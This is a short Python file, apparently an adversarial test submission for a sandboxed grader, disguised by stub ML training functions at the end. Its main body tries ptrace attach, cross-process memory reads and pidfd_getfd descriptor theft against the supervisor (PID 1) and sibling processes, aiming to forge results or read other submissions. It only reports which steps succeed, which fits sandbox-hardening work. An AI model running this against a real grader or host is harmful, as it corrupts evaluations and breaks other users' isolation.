"""Attack: ptrace, read the memory of, or steal descriptors from the supervisor (PID 1) and any sibling process, to forge results or read another submission."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
RESULTS: dict[str, str] = {}


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


buf = ctypes.create_string_buffer(4096)
for pid in range(1, 64):
    if pid == os.getpid():
        continue
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        RESULTS[f"ptrace-{pid}"] = "attached"
    local, remote = IOVec(ctypes.addressof(buf), 4096), IOVec(0x400000, 4096)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        RESULTS[f"vm-read-{pid}"] = "read"
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd >= 0:
        for fd in range(3, 16):
            if libc.syscall(438, pidfd, fd, 0) >= 0:  # pidfd_getfd: the supervisor's result channel?
                RESULTS[f"getfd-{pid}-{fd}"] = "stolen"
print("PTRACE", RESULTS, flush=True)


def sigmoid(u):
    raise NotImplementedError


forward = loss = backward = train_step = sigmoid
